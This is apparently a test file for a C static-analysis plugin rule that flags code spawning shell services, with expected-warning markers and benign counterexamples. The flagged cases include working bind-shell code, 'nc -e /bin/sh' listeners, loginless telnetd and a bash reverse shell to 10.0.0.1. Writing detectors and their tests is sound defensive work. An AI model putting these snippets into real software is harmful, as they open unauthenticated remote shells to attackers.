// debug-shell-spawn: code that starts a remote shell or a shell service, against ordinary system()
// and exec calls (including a CGI server that execs `sh -c script` with its socket on stdout).
// RUN: %python %testtools/check_markers.py --clang %clang --plugin %cra-plugin --registry %cra_src/plugin/Rules.inc --rules 'debug-*,net-bind-any-admin,sec-*' %s | FileCheck %s --check-prefix=MARKERS
// RUN: %python %testtools/check_markers.py --checker %cra-check --registry %cra_src/plugin/Rules.inc --rules 'debug-*,net-bind-any-admin,sec-*' %s | FileCheck %s --check-prefix=MARKERS
// RUN: %clang -fsyntax-only -fplugin=%cra-plugin %s 2>&1 | FileCheck %s --check-prefix=MSG
// RUN: %clang -fsyntax-only -fplugin=%cra-plugin -DDEBUG %s 2>&1 | FileCheck %s --check-prefix=ON
// MARKERS: checked 1 files: 11 expected, 0 missing, 0 unexpected, 0 pending
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

void shell_init(void);

void start_services(int port) {
  char cmd[128];
  system("telnetd -l /bin/sh");                                   // EXPECT debug-shell-spawn
  // MSG: debug-shell-spawn.c:[[@LINE-1]]:3: warning: system("telnetd -l /bin/sh") starts telnetd serving /bin/sh without a login [cra-debug-shell-spawn]
  system("/usr/sbin/telnetd -p 2323 &");                          // EXPECT debug-shell-spawn
  snprintf(cmd, sizeof cmd, "nc -l -p %d -e /bin/sh", port);
  system(cmd);                                                    // EXPECT debug-shell-spawn
  system("dropbear -B -p 2222");                                  // EXPECT debug-shell-spawn
  popen("busybox httpd -h / -p 8081", "r");                       // EXPECT debug-shell-spawn
  execl("/usr/bin/nc", "nc", "-lp", "4444", "-e", "/bin/sh", (char *)NULL); // EXPECT debug-shell-spawn
  shell_init();                                                   // EXPECT debug-shell-spawn
#ifdef DEBUG
  system("utelnetd -l /bin/ash");                                 // NOFLAG removed unless -DDEBUG
  // ON: debug-shell-spawn.c:[[@LINE-1]]:3: warning: system("utelnetd -l /bin/ash") {{.*}}[cra-debug-shell-spawn]
#endif
}

void start_utelnetd(void) {
  char *const argv[] = { "utelnetd", "-l", "/bin/sh", NULL };
  execv("/usr/sbin/utelnetd", argv);                              // EXPECT debug-shell-spawn
}

void bind_shell(int listener) {
  int s = accept(listener, NULL, NULL);
  dup2(s, 0);
  dup2(s, 1);
  dup2(s, 2);
  execl("/bin/sh", "sh", (char *)NULL);                           // EXPECT debug-shell-spawn
}

void loop_shell(int listener) {
  int sock = accept(listener, NULL, NULL);
  char *args[] = { "sh", NULL };
  for (int i = 0; i < 3; i++)
    dup2(sock, i);
  execve("/bin/sh", args, NULL);                                  // EXPECT debug-shell-spawn
}

void reverse_shell(void) {
  system("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");               // EXPECT debug-shell-spawn
}

/* Ordinary commands. */
void benign(const char *iface) {
  char cmd[128];
  system("ifconfig eth0 up");                                     // NOFLAG
  system("killall telnetd");                                      // NOFLAG stops it
  system("/etc/init.d/telnet stop");                              // NOFLAG
  system("nc 10.0.0.1 514 < /var/log/messages");                  // NOFLAG nc without -e
  popen("ls /tmp", "r");                                          // NOFLAG
  snprintf(cmd, sizeof cmd, "udhcpc -i %s", iface);
  system(cmd);                                                    // NOFLAG
  execl("/bin/sh", "sh", "-c", "/etc/rc.d/S50network restart", (char *)NULL); // NOFLAG
}

/* A script's output piped back to the parent. */
void run_script(const char *script) {
  int pipefd[2];
  if (pipe(pipefd) != 0)
    return;
  dup2(pipefd[1], 1);
  execl("/bin/sh", "sh", "-c", script, (char *)NULL);             // NOFLAG
}

/* A CGI server: the client socket becomes the script's stdout; the script is a fixed program. */
void run_cgi(int listener) {
  int client = accept(listener, NULL, NULL);
  dup2(client, 1);
  execl("/bin/sh", "sh", "-c", "/www/cgi-bin/status", (char *)NULL); // NOFLAG
}
